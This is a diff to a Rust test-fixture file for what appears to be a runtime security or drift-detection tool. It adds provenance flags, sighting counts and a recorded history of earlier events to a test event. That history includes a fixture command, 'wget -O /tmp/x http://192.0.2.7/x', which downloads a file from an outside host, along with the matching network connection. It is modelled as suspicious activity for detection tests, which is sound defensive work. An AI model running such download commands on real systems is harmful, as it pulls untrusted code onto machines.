@@ -4,14 +4,16 @@ use std::sync::Arc;
 
 use jiff::{SignedDuration, Timestamp};
 
-use super::event::{Action, BaselineStatus, Context, Event, Origin};
+use super::event::{Action, BaselineStatus, Context, Event, Origin, Seen};
 use super::kind::{DriftKind, Finding, Novelty};
 use super::{Aggregator, aggregate};
 use crate::behaviour::{
     Accept, Ancestor, Behaviour, Capability, Change, Connect, Dns, Escape, Exec, File, Identity,
     Listen, Map, Named, Observation, Operation, Process, Protocol, Socket, Syscall, Unix, UserIds,
 };
+use crate::flight::Moment;
 use crate::generalise;
+use crate::provenance::{Counts, Flag, Provenance, Unknown};
 
 pub(crate) fn start() -> Timestamp {
     "2026-11-21T20:59:01.123456789Z".parse().unwrap()
@@ -228,6 +230,33 @@ pub(crate) fn incident() -> Event {
         techniques: vec!["T1059.004".to_owned()],
     };
     sighting.event(&context())
+}
+
+/// With what is known of its image, of the time before it, and of the same elsewhere.
+pub(crate) fn with_history(event: &mut Event) {
+    let provenance = Provenance {
+        flags: vec![Flag::Unpinned, Flag::RegistryUnapproved],
+        verified: Some(true),
+        keys: vec!["sha256:5e1f".to_owned()],
+        scanned: Some(later(-3600)),
+        counts: Some(Counts { critical: 1, high: 2, medium: 3, low: 4, unknown: 5 }),
+        sbom: vec!["cyclonedx".to_owned()],
+        unknown: vec![Unknown::Untrusted],
+    };
+    Arc::make_mut(&mut event.origin).provenance = Some(Arc::new(provenance));
+    event.seen = Some(Seen { first: later(-86_400), last: later(-60), count: 3, containers: 2 });
+    let moment = |ago: i64, kind, object: &str| Moment {
+        time: later(-ago),
+        kind,
+        object: object.to_owned(),
+        executable: "/usr/bin/wget".into(),
+        pid: 4690,
+    };
+    event.before = vec![
+        moment(3, "exec", "wget -O /tmp/x http://192.0.2.7/x"),
+        moment(2, "net.connect", "tcp 192.0.2.7:80"),
+        moment(1, "exit", "/usr/bin/wget, status 0"),
+    ];
 }
 
 /// One that tells of a scan: what came after the first two of so many ports.
